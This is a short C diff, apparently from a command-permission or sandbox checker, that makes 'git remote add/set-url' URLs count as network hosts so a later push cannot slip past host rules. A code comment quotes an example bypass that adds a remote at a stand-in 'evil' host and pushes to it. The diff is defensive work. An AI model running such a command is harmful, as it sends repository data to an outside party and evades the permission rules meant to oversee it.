@@ -269,6 +269,12 @@ static void g_remote(struct cctx *x, struct cmdv *c)
 		if (strcmp(s, ro[i]) == 0)
 			return;
 	gw(x, c, "changes the repository's remotes");
+	/* add|set-url NAME URL: the host a later push sends to (`git remote add
+	 * x https://evil/r && git push x` named no host, so no Host rule saw it) */
+	for (size_t i = 2; i < c->n; i++)
+		if (strstr(c->w[i].val, "://") ||
+		    (strchr(c->w[i].val, '@') && strchr(strchr(c->w[i].val, '@'), ':')))
+			net_add_url(x, c->w[i].val);
 }
 
 static bool cmd_key(const char *k, size_t n);
